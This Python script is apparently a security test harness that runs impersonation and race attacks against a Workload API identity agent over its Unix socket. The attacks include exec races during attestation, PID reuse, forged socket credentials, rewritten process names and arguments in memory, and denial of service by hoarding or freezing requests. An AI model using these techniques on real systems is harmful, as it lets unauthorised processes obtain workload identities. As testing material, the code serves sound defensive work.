"""Attacks on the Workload API: who is not entitled to an identity tries to get one, or to keep it.

usage: attack.py ATTACK SOCKET ROUNDS [ARGUMENT…]
Prints one line a round:
  refused, cut, silent    it got nothing: a status, the end of the connection, nothing within the deadline
  svid                    it got an identity
  noticed MS              it had one, became something else, and its stream ended so many milliseconds later
Where the agent must not run for a while, it prints `hold`, waits for a line, and prints `go` when it may run again.
"""

import ctypes
import fcntl
import os
import random
import signal
import socket
import struct
import sys
import time

from raw import (ACK, CALL, DATA, END_STREAM, HEADERS, OPENING, PING, begin, call, connect, drop_user, frame, next_frame,
                 outcome, timed)

HALF = len(CALL) // 2
LIBC = ctypes.CDLL(None)


def hold():
    print("hold", flush=True)
    sys.stdin.readline()


def go():
    print("go", flush=True)


def forked(action):
    child = os.fork()
    if child == 0:
        # Whatever becomes of this script, also while the child is stopped, the child goes with it.
        LIBC.prctl(1, signal.SIGKILL, 0, 0, 0)  # PR_SET_PDEATHSIG
        try:
            action()
        finally:
            os._exit(0)
    return child


def end(child):
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)


def become(argv):
    os.execv(argv[0], argv)


def until_it_became(child, argv):
    """Waits until the child runs the program."""
    expected = b"\0".join(os.fsencode(word) for word in argv) + b"\0"
    while True:
        with open(f"/proc/{child}/cmdline", "rb") as cmdline:
            if cmdline.read() == expected:
                return
        os.sched_yield()


def send(connection, data):
    try:
        connection.sendall(data)
    except OSError:
        pass


def fresh():
    """A socket that a child can connect, and that this process can read all the same."""
    return timed(socket.socket(socket.AF_UNIX))


def until_ping(connection):
    while True:
        kind, flags, payload = next_frame(connection)
        if kind == PING and not flags & ACK:
            return payload


def own(path, _number):
    """Asks for itself, as whatever it is."""
    connection = connect(path)
    send(connection, OPENING + CALL)
    return outcome(connection)


def exec_between(path, number, *argv):
    """Becomes the right program at each point of a call; who shares the socket goes on with the call."""
    connection, point = fresh(), number % 6

    def attacker():
        connection.connect(path)
        if point >= 1:
            connection.sendall(OPENING)
        if point == 2:
            connection.sendall(CALL[:HALF])
        if point >= 3:
            next_frame(connection)  # it was accepted
            connection.sendall(CALL)
        if point >= 4:
            nonce = until_ping(connection)  # it was measured
            if point == 5:
                connection.sendall(frame(PING, ACK, 0, nonce))
        become(argv)

    child = forked(attacker)
    until_it_became(child, argv)
    send(connection, (OPENING + CALL, CALL, CALL[HALF:], b"", b"", b"")[point])
    word = outcome(connection)
    end(child)
    return word


# Where both images of the attacker have their AT_RANDOM bytes.
PAGE = 0x200000000


def forge():
    """Makes what tells one image of this program from another the same in each: the auxiliary vector, and AT_RANDOM."""
    LIBC.mmap.restype = ctypes.c_void_p
    LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    if LIBC.mmap(PAGE, 4096, 3, 0x32, -1, 0) != PAGE:  # read and write; private, anonymous, at this place
        raise OSError("no page there")
    ctypes.memset(PAGE, 0x41, 64)
    vector = (ctypes.c_uint64 * 6)(6, 4096, 25, PAGE, 0, 0)  # AT_PAGESZ, AT_RANDOM, AT_NULL
    with open("/proc/self/stat", "rb") as stat:
        fields = [b"", b""] + stat.read().rpartition(b") ")[2].split()
    at = lambda number: int(fields[number - 1])
    # struct prctl_mm_map: code, data, break, stack, arguments, environment, vector, its size, executable.
    LIBC.sbrk.restype = ctypes.c_void_p
    places = [at(26), at(27), at(45), at(46), at(47), LIBC.sbrk(0), at(28), at(48), at(49), at(50), at(51)]
    new = struct.pack("12Q2I", *places, ctypes.addressof(vector), ctypes.sizeof(vector), 0xFFFFFFFF)
    if LIBC.prctl(35, 14, new, ctypes.c_ulong(len(new)), ctypes.c_ulong(0)):  # PR_SET_MM, PR_SET_MM_MAP
        raise OSError("the kernel has no PR_SET_MM_MAP")


def away_and_back(path, _number, trusted, lock):
    """Is asked for its presence, becomes the right program, which executes this one again when it gets its lock: the same
    at the first look and at the last, and another one in between."""
    connection = fresh()
    reader, writer = os.pipe()
    # Its hash is not remembered.
    os.utime(trusted)
    held = os.open(lock, os.O_RDWR)
    fcntl.flock(held, fcntl.LOCK_EX)
    back = [sys.executable, __file__, "back", path, "1", str(connection.fileno()), str(writer)]
    argv = [trusted, "--no-fork", lock, *back]

    def attacker():
        os.close(held)
        forge()
        connection.connect(path)
        connection.sendall(OPENING + CALL)
        nonce = until_ping(connection)
        for descriptor in (connection.fileno(), writer):
            os.set_inheritable(descriptor, True)
        connection.sendall(frame(PING, ACK, 0, nonce))
        become(argv)

    child = forked(attacker)
    os.close(writer)
    until_it_became(child, argv)
    pause = time.monotonic() + random.random() / 50
    while time.monotonic() < pause:
        pass
    os.close(held)
    word = os.read(reader, 100).decode() or "cut"
    end(child)
    os.close(reader)
    return word


def back(_path, _rounds, descriptor, writer):
    forge()
    word = outcome(timed(socket.socket(fileno=int(descriptor))))
    os.write(int(writer), word.encode())


def accepted_then_exec(path, _number, *argv):
    """Becomes the right program after it was accepted and before it is measured."""
    connection = fresh()
    greeted, tell = os.pipe()
    may_go_on, go_on = os.pipe()

    def attacker():
        connection.connect(path)
        begin(connection)
        os.write(tell, b"x")
        os.read(may_go_on, 1)
        connection.sendall(CALL)
        become(argv)

    child = forked(attacker)
    os.read(greeted, 1)
    hold()
    os.write(go_on, b"x")
    until_it_became(child, argv)
    go()
    word = outcome(connection)
    end(child)
    for descriptor in (greeted, tell, may_go_on, go_on):
        os.close(descriptor)
    return word


def queued(path, number, *argv):
    """Writes a whole request and becomes the right program, all before it is accepted; another process reads the
    answer, and every second time answers PINGs."""
    connection = fresh()

    def attacker():
        connection.connect(path)
        connection.sendall(OPENING + CALL)
        become(argv)

    hold()
    child = forked(attacker)
    until_it_became(child, argv)
    go()
    word = outcome(connection, answers=number % 2 == 0)
    end(child)
    return word


def passed(path, number):
    """Hands a connection to another process, which is another user's every second time."""
    connection = begin(connect(path))
    here, there = socket.socketpair()
    reader, writer = os.pipe()

    def other():
        connection.close()
        here.close()
        if number % 2 == 0:
            drop_user()
        _, descriptors, _, _ = socket.recv_fds(there, 1, 1)
        received = timed(socket.socket(fileno=descriptors[0]))
        send(received, CALL)
        os.write(writer, outcome(received).encode())

    child = forked(other)
    socket.send_fds(here, [b"x"], [connection.fileno()])
    os.waitpid(child, 0)
    word = os.read(reader, 100).decode()
    for descriptor in (reader, writer):
        os.close(descriptor)
    return word


def child(path, number):
    """A child writes on its parent's connection: the whole call, or the rest of it, or a PING's answer."""
    connection = begin(connect(path))
    reader, writer = os.pipe()
    way = number % 3

    def other():
        if way == 2:
            send(connection, frame(PING, ACK, 0, until_ping(connection)))
        else:
            send(connection, CALL if way == 0 else CALL[HALF:])
        os.write(writer, outcome(connection).encode())

    if way == 1:
        connection.sendall(CALL[:HALF])
    if way == 2:
        connection.sendall(CALL)
    os.waitpid(forked(other), 0)
    word = os.read(reader, 100).decode()
    for descriptor in (reader, writer):
        os.close(descriptor)
    return word


def setuid_between(path, number):
    """Root asks, and is nobody before it is measured, before its request is whole, or at any moment after it."""
    reader, writer = os.pipe()
    way = number % 3

    def attacker():
        connection = begin(connect(path))
        if way == 1:
            connection.sendall(CALL[:HALF])
        if way == 2:
            connection.sendall(CALL)
            connection.sendall(frame(PING, ACK, 0, until_ping(connection)))
            pause = time.monotonic() + random.random() / 200
            while time.monotonic() < pause:
                pass
        drop_user()
        dropped = time.monotonic()
        send(connection, (CALL, CALL[HALF:], b"")[way])
        word = outcome(connection)
        if way == 2 and word == "svid":
            # It may have been answered as root: then the stream must end.
            word = until_it_ends(connection, dropped)
        os.write(writer, word.encode())

    os.waitpid(forked(attacker), 0)
    word = os.read(reader, 100).decode()
    for descriptor in (reader, writer):
        os.close(descriptor)
    return word


def until_it_ends(connection, since):
    word = outcome(connection)
    if word in ("cut", "refused"):
        return f"noticed {(time.monotonic() - since) * 1000:.0f}"
    return f"kept, {word}"


def keep(path, change):
    """Has an SVID, then `change`s; who shares the socket sees when the stream ends."""
    connection = fresh()
    # The writing end closes by itself in an exec and an exit.
    reader, writer = os.pipe()

    def attacker():
        os.close(reader)
        connection.connect(path)
        connection.sendall(OPENING + CALL)
        os.write(writer, outcome(connection).encode())
        change(writer)

    child = forked(attacker)
    os.close(writer)
    word = os.read(reader, 100).decode()
    if word == "svid":
        os.read(reader, 1)
        word = until_it_ends(connection, time.monotonic())
    else:
        word = f"not answered at all: {word}"
    end(child)
    os.close(reader)
    return word


def keep_by_exec(path, _number, *argv):
    return keep(path, lambda _writer: become(argv))


def keep_by_exit(path, _number):
    return keep(path, lambda _writer: os._exit(0))


def keep_by_setuid(path, _number):
    def change(writer):
        drop_user()
        os.close(writer)
        signal.pause()

    return keep(path, change)


def forged(path, _number, *argv):
    """As root of a user and PID namespace of its own: names a child, which connected and became the right program, as
    the sender of a request and of PINGs' answers."""
    hold()
    connection = fresh()

    def right_one():
        connection.connect(path)
        become(argv)

    child = forked(right_one)
    until_it_became(child, argv)

    def send_as_child(data):
        credentials = struct.pack("3i", child, os.getuid(), os.getgid())
        try:
            connection.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, credentials)])
        except BrokenPipeError:
            pass

    send_as_child(OPENING + CALL)
    go()
    word = outcome(connection, answers=lambda answer: send_as_child(answer))
    end(child)
    return word


def renamed(path, number, trusted):
    """Puts another program's name and path in the place of its own, then asks for itself."""
    LIBC.prctl(15, os.fsencode(os.path.basename(trusted))[:15], 0, 0, 0)  # PR_SET_NAME
    rewrite_arguments(trusted)
    return own(path, number)


def rewrite_arguments(*words):
    """Overwrites this process's arguments in memory, where the kernel reads them for /proc/PID/cmdline."""
    with open("/proc/self/stat", "rb") as stat:
        fields = stat.read().rpartition(b")")[2].split()
    start, stop = int(fields[45]), int(fields[46])
    text = b"\0".join(os.fsencode(word) for word in words) + b"\0"
    text = text[: stop - start - 1].ljust(stop - start, b"\0")
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        memory.seek(start)
        memory.write(text)


def misled(path, number, *scripts):
    """Names a file that is not to be read as its script, then asks for itself."""
    rewrite_arguments("python3", scripts[number % len(scripts)])
    return own(path, number)


def hoard(path, connections, calls):
    """As nobody, opens many calls; says how many were answered and refused, and holds them, reading nothing more."""
    drop_user()
    held, answered, refused = [], 0, 0
    for _ in range(int(connections)):
        connection = connect(path)
        held.append(connection)
        connection.sendall(OPENING)
        for number in range(int(calls)):
            connection.sendall(call(2 * number + 1))
            while True:
                kind, flags, payload = next_frame(connection)
                if kind == PING and not flags & ACK:
                    connection.sendall(frame(PING, ACK, 0, payload))
                if kind == DATA and len(payload) > 100:
                    answered += 1
                    break
                if kind == HEADERS and flags & END_STREAM:
                    refused += 1
                    break
    print(f"{answered} answered, {refused} refused", flush=True)
    sys.stdin.readline()


def freeze(path, processes):
    """As nobody, has processes ask that stop before they can be measured or answer: half of them for good, half of them
    as a tracer's, who does not let them go on."""
    drop_user()

    def asker(traced):
        connection = connect(path)
        connection.sendall(OPENING + CALL)
        if traced:
            LIBC.ptrace(0, 0, 0, 0)  # PTRACE_TRACEME
        os.kill(os.getpid(), signal.SIGSTOP)

    children = [forked(lambda: asker(number % 2 == 0)) for number in range(int(processes))]
    for stopped in children:
        os.waitpid(stopped, os.WUNTRACED)
    print("stopped", flush=True)
    sys.stdin.readline()
    for stopped in children:
        end(stopped)


def reuse(path, rounds, agent, config, token, *argv):
    """In a PID namespace of its own, with few numbers: runs the agent, and has the right program get the number of a
    process that has asked, while the agent attests that one. Says for each round whether the number was used again."""
    # Before Linux 6.14 this is the whole machine's: then the numbers are many, and are used again all the same.
    if tuple(int(part) for part in os.uname().release.split(".")[:2]) >= (6, 14):
        with open("/proc/sys/kernel/pid_max", "w") as pid_max:
            pid_max.write("400")
    with_agent(agent, config, token, rounds, lambda number, running: reuse_once(path, number, running, argv))


def apart(path, rounds, agent, config, token, attack, *argv):
    """Runs the agent and another attack in a PID namespace of their own, where the kernel tells of no exec."""
    with_agent(agent, config, token, rounds, lambda number, _running: [ROUND[attack](path, number, *argv)])


def with_agent(agent, config, token, rounds, attack):
    running = forked(lambda: os.execv(agent, [agent, "run", "--config", config, "--join-token", token]))
    sys.stdin.readline()
    for number in range(int(rounds)):
        print(*attack(number, running), flush=True)
    end(running)


def stop(agent):
    os.kill(agent, signal.SIGSTOP)
    os.waitpid(agent, os.WUNTRACED)


def reuse_once(path, number, agent, argv):
    connection = fresh()
    reader, writer = os.pipe()

    def asker():
        connection.connect(path)
        connection.sendall(OPENING + CALL)
        os.write(writer, b"x")
        signal.pause()

    # Every fourth time before it is accepted, else at any moment of its attestation.
    if number % 4 == 0:
        stop(agent)
    asks = forked(asker)
    os.read(reader, 1)
    if number % 4 != 0:
        moment = time.monotonic() + random.random() / 300
        while time.monotonic() < moment:
            pass
        stop(agent)
    end(asks)
    for _ in range(20):
        with open("/proc/sys/kernel/ns_last_pid", "w") as last:
            last.write(str(asks - 1))
        right_one = forked(lambda: become(argv))
        if right_one == asks:
            break
        end(right_one)
        right_one = None
    if right_one:
        until_it_became(right_one, argv)
    os.kill(agent, signal.SIGCONT)
    word = outcome(connection)
    if right_one:
        end(right_one)
    for descriptor in (reader, writer):
        os.close(descriptor)
    return word, "reused" if right_one else "missed"


ROUND = {
    attack.__name__: attack
    for attack in (own, exec_between, away_and_back, accepted_then_exec, queued, passed, child, setuid_between, keep_by_exec, keep_by_exit,
                   keep_by_setuid, forged, renamed, misled)
}
WHOLE = {attack.__name__: attack for attack in (hoard, freeze, reuse, apart, back)}


def main():
    attack, path, rounds, *more = sys.argv[1:]
    if attack in WHOLE:
        WHOLE[attack](path, rounds, *more)
        return
    for number in range(int(rounds)):
        print(ROUND[attack](path, number, *more), flush=True)


if __name__ == "__main__":
    main()
